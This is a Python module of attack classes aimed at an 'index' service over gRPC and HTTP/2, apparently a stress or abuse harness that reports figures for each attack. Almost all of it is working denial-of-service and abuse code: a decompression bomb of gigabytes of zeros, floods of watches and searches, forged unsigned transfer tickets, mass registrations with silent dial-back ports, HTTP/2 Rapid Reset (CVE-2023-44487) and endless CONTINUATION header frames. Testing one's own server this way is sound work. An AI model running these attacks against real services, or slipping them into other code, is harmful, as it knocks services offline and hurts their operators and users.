"""Attacks on an index. An attack prepares itself when it is made, runs until its end, and returns figures."""

import contextlib
import hashlib
import itertools
import os
import random
import socket
import threading
import zlib

from contract import (INDEX, PAGE, WORDS, Key, Pinged, bearer, content, index_pb2, listing,
                      register_request, ticket, types_pb2)
from http2 import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, Refused,
                   again_and_again, call_headers, field, flood, for_each, frame, framed, statuses, told)

MIB = 1 << 20


def long_name(chance, number):
    """A name of nearly 1,024 bytes whose words have two letters: every short prefix is in it."""
    return "/".join(" ".join(chance.choices(WORDS, k=80)) for _ in range(4)) + f" {number}"


class Watchers:
    """1,000 watches of a word that no book has: the index looks through all books for them."""

    def __init__(self, attack):
        self._each = 20 if attack.small else 100
        self._connections = [attack.connect(keep=False) for _ in range(2 if attack.small else 10)]

    def run(self, until):
        message = index_pb2.WatchRequest(keywords="zqxj").SerializeToString()
        return flood(self._connections, INDEX + "Watch", lambda: message, self._each, until)


class CompressedRequests:
    """Requests of a few kilobytes that are gigabytes of zeros when they are inflated."""

    path = INDEX + "Search"

    def __init__(self, attack):
        size = 16 if attack.small else 512
        packer = zlib.compressobj(9, zlib.DEFLATED, 31)
        zeros = bytes(MIB)
        self._message = b"".join(packer.compress(zeros) for _ in range(size)) + packer.flush()
        self._connections = [attack.connect(keep=False) for _ in range(2)]

    def run(self, until):
        def one(connection):
            while until.is_ahead() and connection.alive:
                ended = threading.Event()
                connection.begin(self.path, self._message, on_end=lambda _: ended.set(),
                                 compressed=True)
                ended.wait()
        for_each(self._connections, one)
        until.wait()
        return {"KiB each": len(self._message) / 1024, **told(statuses(self._connections))}


class Searches:
    """Searches for a letter with which a word of every name begins."""

    def __init__(self, attack):
        self._connections = [attack.connect(keep=False) for _ in range(4)]

    def run(self, until):
        message = index_pb2.SearchRequest(keywords="a", page_size=PAGE).SerializeToString()
        return flood(self._connections, INDEX + "Search", lambda: message, 4, until)


class Member:
    """A proven session of an attacker. Its heartbeats keep the session."""

    def __init__(self, attack):
        self.key, self._pinged = Key(), Pinged(attack.source)
        self.connection = attack.connect(keep=True)
        answer = self.connection.call(INDEX + "Register", self._pinged.request(self.key),
                                      index_pb2.RegisterResponse)
        if not answer.reachability.reachable:
            raise Refused(answer.reachability.message)
        self.metadata = bearer(answer.session_token)
        number = self.connection.open(INDEX + "Announce", self.metadata)
        self.connection.wait_message(number)
        threading.Thread(target=self._beat, args=(number,), daemon=True).start()

    def _beat(self, number):
        beat = framed(index_pb2.AnnounceRequest())
        pause = threading.Event()
        with contextlib.suppress(OSError):
            while self.connection.alive:
                self.connection.send(number, beat, last=False)
                pause.wait(1)


class ForgedTickets:
    """Moves with 1,000 tickets each that the victim has not signed."""

    def __init__(self, attack):
        self._member = Member(attack)
        victim = self._member.connection.call(
            INDEX + "ListPeers", index_pb2.ListPeersRequest(), index_pb2.ListPeersResponse).peers[0]
        items = [index_pb2.UpdateOwnerRequest.Item(
            ticket=types_pb2.MoveTicket(
                transfer_id=os.urandom(16), source_public_key=victim.public_key,
                source_listing_number=number, receiver_public_key=self._member.key.public,
                content=content(number), batch_size=1, signature=os.urandom(64)),
            new_listing=listing(number, f"t{number}")) for number in range(1, PAGE + 1)]
        self._message = index_pb2.UpdateOwnerRequest(items=items).SerializeToString()
        self._connections = [attack.connect(keep=False) for _ in range(4)]

    def run(self, until):
        return flood(self._connections, INDEX + "UpdateOwner", lambda: self._message, 16, until,
                     self._member.metadata)


class MadeUpSources:
    """Moves with good tickets of a source that has never been at this index."""

    ITEMS, PREPARED = 250, 40

    def __init__(self, attack):
        self._member, self._source, self._numbers = Member(attack), Key(), itertools.count(1, 2)
        prepared = 2 if attack.small else self.PREPARED
        self._messages = iter([self._make() for _ in range(prepared)])
        self._connections = [attack.connect(keep=False)]

    def _make(self):
        request = index_pb2.UpdateOwnerRequest()
        for number in itertools.islice(self._numbers, self.ITEMS):
            proof = ticket(self._source, number, self._member.key.public)
            request.items.add(ticket=proof).new_listing.CopyFrom(types_pb2.Listing(
                listing_number=number, name="t", content=proof.content))
        return request.SerializeToString()

    def run(self, until):
        figures = flood(self._connections, INDEX + "UpdateOwner",
                        lambda: next(self._messages, None) or self._make(), 2, until,
                        self._member.metadata)
        return {"tickets": figures.get("calls OK", 0) * self.ITEMS, **figures}


class Registrations:
    """Registrations of random keys whose port is closed, 200 at a time."""

    port = 1

    def __init__(self, attack):
        self._connections = [attack.connect(keep=False) for _ in range(4)]

    def run(self, until):
        return flood(self._connections, INDEX + "Register",
                     lambda: register_request(os.urandom(32), self.port).SerializeToString(), 50,
                     until)


class SilentPorts(Registrations):
    """Registrations whose port accepts the dial-back and says nothing."""

    def __init__(self, attack):
        super().__init__(attack)
        self._listener = socket.create_server((attack.source, 0), backlog=4096)
        self.port = self._listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        held = []
        with contextlib.suppress(OSError):
            while True:
                held.append(self._listener.accept()[0])


class UnprovenBooks:
    """Sessions that have proven nothing and state long names, one session after another."""

    def __init__(self, attack):
        chance, self._pages = random.Random(1), []
        statements = [index_pb2.Statement(present=listing(number, long_name(chance, number)))
                      for number in range(1, PAGE + 1)]
        for first in range(1, (4 if attack.small else 60) * PAGE, PAGE):
            page = index_pb2.AnnounceRequest(first_sequence=first, statements=statements)
            for number, statement in enumerate(page.statements, start=first):
                statement.present.listing_number = number
                statement.present.content.root = hashlib.sha256(b"%d" % number).digest()
            self._pages.append(framed(page))
        self._connections = [attack.connect() for _ in range(2 if attack.small else 8)]

    def run(self, until):
        sent = itertools.count()

        def one(connection):
            while until.is_ahead() and connection.alive:
                answer = connection.call(INDEX + "Register", register_request(Key(), 1),
                                         index_pb2.RegisterResponse)
                stream = connection.open(INDEX + "Announce", bearer(answer.session_token))
                for page in self._pages:
                    if until.is_ahead() and connection.is_open(stream):
                        connection.send(stream, page, last=False)
                        next(sent)
        for_each(self._connections, one)
        until.wait()
        return {"books": next(sent) * PAGE, **told(statuses(self._connections))}


class RapidResets:
    """Calls that are reset as soon as they are opened (CVE-2023-44487)."""

    BURST = 100
    path, message = INDEX + "Search", index_pb2.SearchRequest(keywords="a")

    def __init__(self, attack):
        self._connect = attack.connect
        self._block, self._body = call_headers(self.path), framed(self.message)

    def run(self, until):
        sent = itertools.count()

        def one(connection):
            for first in itertools.count(1, self.BURST * 2):
                if not until.is_ahead():
                    return
                connection.write(b"".join(
                    frame(HEADERS, END_HEADERS, number, self._block)
                    + frame(DATA, END_STREAM, number, self._body)
                    + frame(RST_STREAM, 0, number, CANCEL)
                    for number in range(first, first + self.BURST * 2, 2)))
                next(sent)
        connections = again_and_again(self._connect, one, until)
        return {"calls reset": next(sent) * self.BURST, "connections": connections}


class EndlessHeaders:
    """A header block that never ends, frame after frame (CVE-2023-33953 and its kind)."""

    path = INDEX + "Search"

    def __init__(self, attack):
        self._connect = attack.connect

    def run(self, until):
        sent = itertools.count()
        more = frame(CONTINUATION, 0, 1, field("x-more", "v" * 1000) * 15)

        def one(connection):
            connection.write(frame(HEADERS, 0, 1, call_headers(self.path)))
            while until.is_ahead():
                connection.write(more)
                next(sent)
        connections = again_and_again(self._connect, one, until)
        return {"MiB of headers": next(sent) * len(more) / MIB, "connections": connections}

